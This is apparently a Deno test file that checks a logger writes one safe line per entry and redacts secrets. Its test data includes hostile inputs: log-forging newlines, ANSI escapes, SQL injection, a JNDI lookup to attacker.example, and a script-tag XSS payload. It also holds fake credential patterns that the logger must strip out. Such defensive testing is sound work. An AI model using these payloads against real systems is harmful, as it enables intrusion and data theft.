/** Logs are no way in and no way out (T22, T33): one line per entry, no control character, no secret. */
import assert from "node:assert/strict";
import {
  createJsonLog,
  redact,
  secretsIn,
} from "../../supabase/functions/_shared/providers/log.ts";

const lines: string[] = [];
const log = createJsonLog((line) => lines.push(line));

function written(fields: Readonly<Record<string, unknown>>): string {
  lines.length = 0;
  log.error("event", fields);
  assert.equal(lines.length, 1);
  return lines[0];
}

// deno-lint-ignore no-control-regex -- what may not be there
const UNSEEN = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200b]/;

const FORGED = [
  'x\n{"level":"error","event":"forged"}',
  "x\r\nHTTP/1.1 200 OK",
  "\u001b[2J\u001b[31mred",
  "\u009b31m",
  "\u0000\u0007\b",
  "\u2028\u2029",
  "\u202egnp.exe",
  "\u200bhidden",
  "'; drop table logs; --",
  "${jndi:ldap://attacker.example/a}",
  "%n%s%x",
  "</script><script>alert(1)</script>",
  "a".repeat(200_000),
  "\n".repeat(50_000),
];

for (const [index, text] of FORGED.entries()) {
  Deno.test(`createJsonLog() writes one harmless line for hostile text ${index + 1} of ${FORGED.length} (T33)`, () => {
    const line = written({ note: text, [text.slice(0, 50)]: 1 });
    assert.doesNotMatch(
      line,
      UNSEEN,
    );
    assert.ok(line.length <= 10_000);
    if (text.length < 100) assert.equal(JSON.parse(line).event, "event");
  });
}

const b64 = (text: string) => btoa(text).replaceAll("=", "");
const JWT = `eyJ${b64("hbGciOiJIUzI1NiJ9")}.${b64('{"sub":"1234567890"}')}.${"s".repeat(43)}`;

/** Shapes of what opens something. */
const SECRETS: Readonly<Record<string, string>> = {
  "a JWT": JWT,
  "a secret key": `sb_secret_${"k".repeat(32)}`,
  "a publishable key": `sb_publishable_${"k".repeat(24)}`,
  "a webhook secret": `whsec_${"a1B2".repeat(8)}==`,
  "a Slack bot token": `xoxb-${"1".repeat(12)}-${"a".repeat(24)}`,
  "a Slack refresh token": `xoxe-1-${"a".repeat(30)}`,
  "an Anthropic key": `sk-ant-api03-${"a".repeat(40)}`,
  "an OpenAI key": `sk-proj-${"a".repeat(40)}`,
  "a Resend key": `re_${"A1b2".repeat(8)}`,
  "a Google API key": `AIza${"a".repeat(35)}`,
  "a Google access token": `ya29.${"a".repeat(60)}`,
  "a Google refresh token": `1//0${"a".repeat(40)}`,
  "a Google client secret": `GOCSPX-${"a".repeat(28)}`,
  "a GitHub token": `ghp_${"a".repeat(36)}`,
  "an AWS key": `AKIA${"ABCDEFGH".repeat(2)}`,
  "a Bearer header": `Bearer ${"a".repeat(30)}`,
  "a Basic header": `Basic ${btoa("user:password")}`,
  "a database address": "postgres://fleet_worker:secretword@db.example:6543/postgres",
  "a private key": `-----BEGIN PRIVATE KEY-----\n${"A".repeat(64)}\n-----END PRIVATE KEY-----`,
};

for (const [name, secret] of Object.entries(SECRETS)) {
  Deno.test(`createJsonLog() writes no secret: ${name} (T22)`, () => {
    for (const text of [secret, `before ${secret} after`, `"${secret}"`, `key=${secret}&x=1`]) {
      const line = written({ reason: text, nested: { deep: [text] } });
      assert.ok(!line.includes(secret) && !line.includes(secret.slice(8, 24)), line.slice(0, 300));
    }
  });
}

Deno.test("redact() leaves what people write alone", () => {
  for (
    const text of [
      "The run 01a21b13-c8af-7001-b82e-d61a3585e81a failed with llm_bad_answer",
      "Sunday 1//2 re_try sk-ip basic needs",
      "https://example.com/path?x=1",
    ]
  ) {
    assert.equal(redact(text), text);
  }
});

Deno.test("createJsonLog() writes no secret of its own environment, whatever it looks like (T22)", () => {
  const env = {
    SLACK_SIGNING_SECRET: "0123456789abcdef0123456789abcdef",
    APOLLO_API_KEY: "plain words as a key",
    FLEET_TOKEN_KEYS: '{"k1": "c29tZSBrZXkgb2YgdGhpcnR5LXR3byBieXRlcw=="}',
    FLEET_DB_URL: "postgres://fleet_worker:pw@db/postgres",
    OTEL_EXPORTER_OTLP_HEADERS: 'authorization="quoted\\value"',
    FLEET_REGION: "eu-central-1",
  };
  const own: string[] = [];
  const guarded = createJsonLog((line) => own.push(line), secretsIn(env));
  guarded.error("failed", { ...env, reason: `with ${Object.values(env).join(" and ")}` });
  const line = own[0];
  assert.ok(line.includes("eu-central-1"));
  for (
    const secret of [
      env.SLACK_SIGNING_SECRET,
      env.APOLLO_API_KEY,
      "c29tZSBrZXkgb2YgdGhpcnR5",
      "fleet_worker:pw",
      "quoted",
    ]
  ) {
    assert.ok(!line.includes(secret), secret);
  }
});
